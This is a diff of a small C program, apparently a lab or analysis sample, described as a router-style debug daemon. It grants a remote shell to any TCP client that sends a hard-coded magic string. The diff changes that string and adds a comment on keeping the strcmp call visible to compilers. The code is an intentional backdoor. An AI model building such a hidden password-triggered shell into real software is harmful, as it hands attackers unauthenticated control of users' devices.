@@ -1,4 +1,6 @@
-/* A router-style debug daemon: reads a line from a TCP client; one magic line gets a shell. */
+/* A router-style debug daemon: reads a line from a TCP client; one magic line gets a shell.
+ * (gcc 12 at -O2 inlines strcmp against a constant whose size is a multiple of 8 bytes: the
+ * 30-character magic keeps the call, as older firmware compilers would.) */
 #include <netinet/in.h>
 #include <stdio.h>
 #include <string.h>
@@ -11,7 +13,7 @@ static void serve(int fd) {
   if (n <= 0) return;
   buf[n] = 0;
   buf[strcspn(buf, "\r\n")] = 0;
-  if (strcmp(buf, "xmlset_roodkcableoj28840ybtide") == 0) {
+  if (strcmp(buf, "vndr-maint-5d3a-r00t-access-88") == 0) {
     dup2(fd, 0);
     dup2(fd, 1);
     dup2(fd, 2);
